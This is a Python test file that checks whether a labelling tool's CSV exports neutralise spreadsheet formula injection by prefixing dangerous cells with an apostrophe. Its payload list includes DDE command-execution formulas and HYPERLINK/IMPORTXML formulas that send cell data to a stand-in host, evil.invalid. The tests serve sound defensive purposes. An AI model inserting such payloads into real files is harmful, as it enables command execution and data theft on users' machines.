"""A cell that a spreadsheet would run as a formula leaves with an apostrophe before it, in every table."""

import ast
import csv
import inspect
import io
from pathlib import Path

import pandas as pd
import pytest

from ui.evaluate_parts import table_csv
from votek.cli.comparing import comparison_csv
from votek.datasets import make_dataset, read_dataset, refusals_csv
from votek.datatypes import LabelSpec, Refusal, TaskSpec
from votek.exports.guard import looks_like_a_formula
from votek.exports.rows import rows_csv
from votek.workspace import NewEvent, Workspace

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.invalid/?x="&A1,"here")',
    '=IMPORTXML(CONCAT("http://evil.invalid/",A1),"//a")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    '=1+1","=2+2',
    "=1;=2",
]


def cells(content):
    """Every cell, the header's included."""
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]


def check(content):
    """None runs, and all are there behind an apostrophe."""
    found = cells(content)
    assert [cell for cell in found if looks_like_a_formula(cell)] == []
    return {cell[1:] for cell in found if cell.startswith("'") and looks_like_a_formula(cell[1:])}


def dataset():
    """Ids, texts, column names and cells that are formulas."""
    columns = {name.strip(): FORMULAS for name in FORMULAS[:3]}
    return make_dataset([f"={n}" for n in range(len(FORMULAS))], FORMULAS, columns)


def test_the_rows_of_a_data_set():
    assert set(FORMULAS) <= check(rows_csv(dataset(), range(len(FORMULAS))))
    assert any(map(looks_like_a_formula, cells(rows_csv(dataset(), [0], formula_guard=False))))


def test_refused_rows():
    assert check(refusals_csv([Refusal(1, text, text) for text in FORMULAS])) == set(FORMULAS)


def test_tables_of_results():
    frame = pd.DataFrame({name: [name, "-3.4% (-13.1% to +6.2%)", -1.5] for name in FORMULAS})
    found = [cell for cell in cells(table_csv(frame)) if looks_like_a_formula(cell)]
    assert set(found) == {"-3.4% (-13.1% to +6.2%)", "-1.5"}  # numbers stay numbers
    assert set(FORMULAS) <= {cell[1:] for cell in cells(table_csv(frame))}


@pytest.fixture
def project(space, tmp_path):
    """Labelled texts of which everything is a formula."""
    names = [text for text in FORMULAS if text.isprintable() and text == text.strip()]
    task = TaskSpec("single", tuple(LabelSpec(name, "#0072B2") for name in names))
    made = space.create_project("=1+1", task=task)
    space.import_dataset(made.id, dataset(), role="pool", name="=1+1.csv")
    space.add_to_queue(made.id, range(len(FORMULAS)))
    events = [NewEvent(f"e{n}", f"={n}", "label", names[n % len(names)], 1, 1) for n in range(len(FORMULAS))]
    assert all(ack.accepted for ack in space.record_events(made.id, "local", events))
    return made


def test_the_labelled_set_is_guarded_unless_somebody_says_otherwise(space, project):
    assert set(FORMULAS) <= check(space.export(project.id, "labelled-csv").content)
    assert inspect.signature(Workspace.export).parameters["formula_guard"].default is True
    verbatim = cells(space.export(project.id, "labelled-csv", formula_guard=False).content)
    assert set(FORMULAS) <= set(verbatim)


def test_the_guard_does_not_touch_what_no_spreadsheet_opens(space, project, tmp_path):
    file = space.export(project.id, "labelled-jsonl")
    (tmp_path / "a.jsonl").write_bytes(file.content)
    assert list(read_dataset(tmp_path / "a.jsonl").texts) == FORMULAS


def test_every_module_that_writes_csv_is_one_of_these():
    writers = set()
    for path in [*(ROOT / "votek").rglob("*.py"), *(ROOT / "ui").rglob("*.py")]:
        calls = (node for node in ast.walk(ast.parse(path.read_text("utf-8"))) if isinstance(node, ast.Call))
        if any(
            ast.unparse(call.func).endswith(("csv.writer", "csv.DictWriter", ".to_csv", "to_excel")) for call in calls
        ):
            writers.add(path.relative_to(ROOT).as_posix())
    assert writers == {
        "ui/evaluate_parts.py",
        "votek/cli/comparing.py",  # names of methods and numbers alone; see below
        "votek/datasets/refused.py",
        "votek/exports/labelled_csv.py",
        "votek/exports/rows.py",
    }


def test_the_comparison_of_methods_holds_nothing_that_a_person_typed():
    source = inspect.getsource(comparison_csv)
    assert "texts" not in source
    assert "groups_in" not in source
